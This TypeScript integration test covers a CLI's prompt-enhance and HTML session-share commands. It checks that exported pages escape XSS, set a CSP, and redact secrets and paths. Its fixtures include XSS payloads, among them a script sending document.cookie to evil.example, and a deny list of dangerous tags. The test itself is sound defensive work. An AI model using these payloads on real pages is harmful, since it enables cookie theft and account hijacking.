/**
 * `fh session enhance` and `fh session share` as users run them: the BUILT binary in subprocesses, the
 * model the scripted fake of this process, sessions on the integration dev server (an in-process worker
 * for the session test agents).
 *
 * enhance: with ripgrep on PATH, identifiers found in a repository are attached (at most 10 files, the
 * search's bound, though more match) and the model's rewrite is printed; with a PATH without `rg`, a
 * prompt still comes back, no files from a search are attached, and the missing ripgrep is said.
 * share: one self-contained HTML file in which XSS attempts from the user, the model and a tool stay
 * text, with a Content-Security-Policy meta tag, and secrets and the working directory redacted.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { startSession } from '@fabric-harness/sdk/client';
import { callTools, say, type FakeAnthropicServer, type RecordedRequest } from '@fabric-harness/sdk/testing';
import { assistant } from '../fixtures/session-agents';
import { ensureBuilt, runFh, type Ran } from '../support/fh-cli';
import { isTitleRequest, startSessionFake } from '../support/session-fake';
import { startTestWorker, type TestWorker } from '../support/test-worker';

const REWRITE_SYSTEM = "You rewrite a developer's draft prompt";
const REWRITTEN = 'Make the retry in fetchOrders (src/orders.ts) wait longer before it gives up; CartStore shows the pattern.';
const DRAFT = 'the retry in fetchOrders gives up too early, see CartStore';
const MATCHING_FILES = 15;

const XSS_USER = 'Please check <script>window.__pwned = "user"</script> and <img src=x onerror="alert(1)">';
const XSS_MODEL = 'Checked. <script>fetch("https://evil.example/?c=" + document.cookie)</script><iframe src="javascript:alert(2)"></iframe>';
const SECRET = 'sk-ant-api03-BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB';

const isRewrite = (r: RecordedRequest) => String(r.body?.system ?? '').startsWith(REWRITE_SYSTEM);
const userText = (r: RecordedRequest) => JSON.stringify(r.body.messages);

describe('fh session enhance / share', () => {
  let fake: FakeAnthropicServer;
  let w: TestWorker;
  let env: NodeJS.ProcessEnv;
  let repo: string;

  beforeAll(async () => {
    ensureBuilt();
    fake = await startSessionFake({ route: (req) => (req.path === '/v1/messages' && isRewrite(req) ? say(REWRITTEN) : undefined) });
    w = await startTestWorker({ name: 'cli-extras', baseURL: fake.url });
    const clean = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('TEMPORAL_') && !k.startsWith('ANTHROPIC_') && k !== 'FH_AGENTS'));
    env = { ...clean, TEMPORAL_ADDRESS: w.t.address, TEMPORAL_NAMESPACE: w.t.namespace, FH_STORE_DIR: w.storeDir, ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: fake.url, NO_COLOR: '1' };

    // A repository: fetchOrders in one file, CartStore named in more files than the search attaches.
    repo = fs.mkdtempSync(path.join(os.tmpdir(), 'fh-enhance-'));
    fs.writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'shop', description: 'A small shop' }));
    fs.writeFileSync(path.join(repo, 'README.md'), '# Shop\n');
    fs.mkdirSync(path.join(repo, 'src/stores'), { recursive: true });
    fs.writeFileSync(path.join(repo, 'src/orders.ts'), 'export async function fetchOrders() {}\n');
    for (let i = 0; i < MATCHING_FILES - 1; i++) fs.writeFileSync(path.join(repo, `src/stores/s${String(i).padStart(2, '0')}.ts`), `import { CartStore } from './cart';\n`);
  });
  afterAll(async () => {
    await w?.stop();
    await fake?.stop();
  });

  function ok(r: Ran): Ran {
    if (r.code !== 0) throw new Error(`exited ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`);
    return r;
  }

  it('enhance with ripgrep: the model rewrites the draft, the files found are attached within the bound, and what was attached is said', async () => {
    expect(fs.existsSync('/usr/bin/rg') || fs.existsSync('/usr/local/bin/rg')).toBe(true); // scripts/ripgrep.js installs it
    const before = fake.requests.filter(isRewrite).length;
    const json = JSON.parse(ok(await runFh(['session', 'enhance', '--cwd', repo, '--json', DRAFT], env)).stdout);
    expect(json).toMatchObject({ prompt: REWRITTEN, rewritten: true, problems: [] });
    expect(json.attached.intro).toMatchObject({ name: 'shop' });
    expect(json.attached.symbols).toEqual(expect.arrayContaining(['fetchOrders', 'CartStore']));
    // 15 files match; the search attaches 10 at most, and fetchOrders' file is one of them.
    expect(json.attached.files).toHaveLength(10);
    expect(json.attached.files).toContain('src/orders.ts');
    // The model was sent the files it attached.
    const sent = fake.requests.filter(isRewrite).slice(before);
    expect(sent).toHaveLength(1);
    expect(userText(sent[0]!)).toContain('src/orders.ts');

    // Text: the prompt on stdout, what was attached on stderr.
    const text = ok(await runFh(['session', 'enhance', '--cwd', repo, DRAFT], env));
    expect(text.stdout).toBe(`${REWRITTEN}\n`);
    expect(text.stderr.trim()).toBe('attached: repo intro, 10 files, 2 symbols');
  });

  it('enhance without ripgrep on PATH: still a prompt, no files searched, and the missing ripgrep is said', async () => {
    const emptyBin = fs.mkdtempSync(path.join(os.tmpdir(), 'fh-no-rg-'));
    const noRg = { ...env, PATH: emptyBin };
    const json = JSON.parse(ok(await runFh(['session', 'enhance', '--cwd', repo, '--json', DRAFT], noRg)).stdout);
    expect(json).toMatchObject({ prompt: REWRITTEN, rewritten: true });
    expect(json.attached.files).toEqual([]);
    expect(json.problems).toEqual([{ step: 'search', message: expect.stringMatching(/ripgrep \(rg\) is not installed/) }]);
    const text = ok(await runFh(['session', 'enhance', '--cwd', repo, DRAFT], noRg));
    expect(text.stdout).toBe(`${REWRITTEN}\n`);
    expect(text.stderr).toMatch(/^attached: repo intro, 0 files, 2 symbols; search: ripgrep \(rg\) is not installed/);
  });

  it('enhance refuses a draft over its bound with one line naming the draft', async () => {
    const r = await runFh(['session', 'enhance', '--cwd', repo, 'x'.repeat(20_001)], env);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^fh: .*draft/);
  });

  it('share writes one self-contained page: XSS stays text, a CSP meta tag, secrets and the working directory redacted', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fh-share-cli-'));
    fs.writeFileSync(path.join(dir, 'notes.txt'), `<script>window.__pwned="tool"</script>\nANTHROPIC_API_KEY=${SECRET}\nsaved in ${dir}/notes.txt`);
    const session = await startSession(w.client, assistant, { taskQueue: w.taskQueue, title: 'CLI share', settings: { workingDirectory: dir } });
    fake.enqueue(callTools({ name: 'read_file', input: { path: 'notes.txt' } }), say(XSS_MODEL));
    expect(await session.prompt(XSS_USER)).toBe(XSS_MODEL);

    const outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'fh-share-out-'));
    const out = path.join(outDir, 'chat.html');
    const r = ok(await runFh(['session', 'share', session.id, '--out', out, '--json'], env));
    expect(JSON.parse(r.stdout)).toEqual({ id: session.id, path: out, bytes: fs.statSync(out).size });
    expect(fs.readdirSync(outDir)).toEqual(['chat.html']); // one file, nothing beside it
    const html = fs.readFileSync(out, 'utf8');

    // No markup from the conversation: no script element at all, the attempts shown escaped.
    expect(html).not.toMatch(/<script/i);
    // Every tag in the file is the renderer's own: none from the conversation, none with a handler or a URL.
    const tags = html.match(/<[a-zA-Z!/][^>]*>/g) ?? [];
    const names = new Set(tags.map((t) => /^<\/?!?([a-zA-Z][a-zA-Z0-9]*)/.exec(t)?.[1]?.toLowerCase()));
    expect([...names].filter((n) => n !== undefined && ['script', 'img', 'iframe', 'svg', 'object', 'embed', 'link', 'a', 'form'].includes(n))).toEqual([]);
    expect(tags.filter((t) => /\son\w+\s*=|\s(?:src|href|action)\s*=/i.test(t))).toEqual([]);
    expect(html).toContain('&lt;script&gt;window.__pwned = &quot;user&quot;&lt;/script&gt;');
    expect(html).toContain('&lt;script&gt;fetch(');
    expect(html).toContain('&lt;script&gt;window.__pwned=&quot;tool&quot;&lt;/script&gt;');
    // Self-contained: nothing loaded from elsewhere, and a CSP that forbids it anyway.
    expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="[^"]*default-src 'none'[^"]*script-src 'none'/);
    // Redacted: the secret, and the working directory.
    expect(html).not.toContain(SECRET);
    expect(html).toContain('ANTHROPIC_API_KEY=[redacted]');
    expect(html).not.toContain(dir);
    expect(html).toContain('&lt;workdir&gt;/notes.txt');
    expect(fake.requests.filter((q) => !isTitleRequest(q)).length).toBeGreaterThan(0);

    // Text mode says where it wrote; a directory as --out is one clear line, and writes nothing.
    const again = ok(await runFh(['session', 'share', session.id, '--out', out], env));
    expect(again.stdout).toBe(`${session.id}: wrote ${out}\n`);
    const bad = await runFh(['session', 'share', session.id, '--out', outDir], env);
    expect(bad.code).not.toBe(0);
    expect(bad.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^fh: --out .* is a directory/)]);
    await session.end();
  });
});
